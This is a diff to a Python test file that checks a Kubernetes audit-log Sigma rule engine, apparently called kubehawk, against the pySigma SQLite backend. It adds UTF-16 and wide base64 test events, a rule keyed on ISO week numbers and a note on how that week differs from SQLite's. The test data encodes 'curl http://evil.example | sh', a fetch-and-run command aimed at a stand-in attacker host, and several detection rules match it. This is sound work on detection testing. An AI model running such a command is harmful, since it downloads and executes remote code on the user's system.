@@ -37,6 +37,8 @@ sqlite_backend = pytest.importorskip("sigma.backends.sqlite", reason="pysigma-ba
 CORPUS = REPO.parent / "shared" / "corpus"
 VARS = {"sysns": ["kube-system", "KUBE-PUBLIC"]}
 B64 = base64.b64encode(b"xx curl http://evil.example | sh").decode()
+WIDE = base64.b64encode("x curl http://evil.example".encode("utf-16le")).decode()
+UTF16 = base64.b64encode("http://evil.example".encode("utf-16")).decode()  # BOM first, as |utf16 writes it
 
 # name -> detection (each its own rule); together they use every modifier kubehawk supports
 RULES: dict[str, str] = {
@@ -74,6 +76,9 @@ RULES: dict[str, str] = {
     "bool-false": "sel: {requestObject.spec.containers.securityContext.privileged: false}\ncondition: sel",
     "base64": "sel: {requestObject.data.token|base64: 'hunter2'}\ncondition: sel",
     "base64offset": "sel: {requestURI|base64offset|contains: 'http://evil'}\ncondition: sel",
+    "wide-base64offset": "sel: {requestURI|wide|base64offset|contains: 'http://evil'}\ncondition: sel",
+    "utf16-base64offset": "sel: {requestURI|utf16|base64offset|contains: 'http://evil'}\ncondition: sel",
+    "startswith-all": "sel: {userAgent|startswith|all: ['kube', 'KUBECTL/']}\ncondition: sel",
     "windash": "sel: {userAgent|windash|contains: ' -v'}\ncondition: sel",
     "fieldref": "sel: {objectRef.namespace|fieldref: objectRef.name}\ncondition: sel",
     "fieldref-startswith": "sel: {objectRef.name|fieldref|startswith: objectRef.namespace}\ncondition: sel",
@@ -81,6 +86,7 @@ RULES: dict[str, str] = {
     "hour": "sel: {stageTimestamp|hour: 14}\ncondition: sel",
     "minute": "sel: {requestReceivedTimestamp|minute: 42}\ncondition: sel",
     "day": "sel: {stageTimestamp|day: 12}\ncondition: sel",
+    "week": "sel: {stageTimestamp|week: 41}\ncondition: sel",
     "month": "sel: {stageTimestamp|month: 10}\ncondition: sel",
     "year": "sel: {stageTimestamp|year: 2025}\ncondition: sel",
     "annotation": "sel: {annotations.authorization.k8s.io/decision: FORBID}\ncondition: sel",
@@ -110,6 +116,8 @@ EDGE: list[dict[str, Any]] = [
                                          "spec": {"hostNetwork": True}}},
     {"verb": "create", "requestObject": {"kind": "Secret", "data": {"token": base64.b64encode(b"hunter2").decode()}}},
     {"verb": "get", "requestURI": f"/api/v1/x?payload={B64}"},
+    {"verb": "get", "requestURI": f"/api/v1/x?payload={WIDE}"},
+    {"verb": "get", "requestURI": f"/api/v1/x?payload={UTF16}"},
     {"verb": "get", "requestURI": "/API", "userAgent": "curl/8 *star* -v"},
     {"verb": "get", "requestURI": "/apis\n/api", "userAgent": "kubectl/1.30\n(LINUX)"},
     {"verb": "get", "userAgent": "Kubectl/1.30 (linux)", "sourceIPs": ["10.1.2.3"]},
@@ -147,6 +155,10 @@ DIALECT: dict[str, tuple[str, Any]] = {
         "The backend writes |cidr as a LIKE on the address's text prefix ('10.%'), which also "
         "takes a host name or a non-canonical address; kubehawk parses the address.",
         lambda rule, ev: rule == "cidr" and not _is_ip(_get(ev, "sourceIPs"))),
+    "iso-week": (
+        "|week is the ISO 8601 week (1-53, the week holding the year's first Thursday is 1); the "
+        "backend reads SQLite's %W (00-53, counted from the year's first Monday), often one less.",
+        lambda rule, ev: rule == "week"),
     "timestamp-parse": (
         "Timestamp parts: kubehawk reads the timestamp with Python's ISO 8601 parser, in its own "
         "offset; SQLite's strftime converts an offset to UTC and reads a few other forms.",
@@ -329,5 +341,4 @@ def test_kubehawk_agrees_with_pysigma_sqlite_but_for_documented_dialect_choices(
     assert compared > 150_000 and skipped < compared / 5, (compared, skipped)
     assert not [n for n in RULES if not hits[n]], "a rule that never fires compares nothing"
     # the edge events do reach the documented choices: the list is not dead text
-    assert {"number-vs-string", "number-quoted", "exists-null-or-empty", "cidr-by-prefix", "unicode-case",
-            "timestamp-parse"} <= set(explained), explained
+    assert set(explained) == set(DIALECT), explained
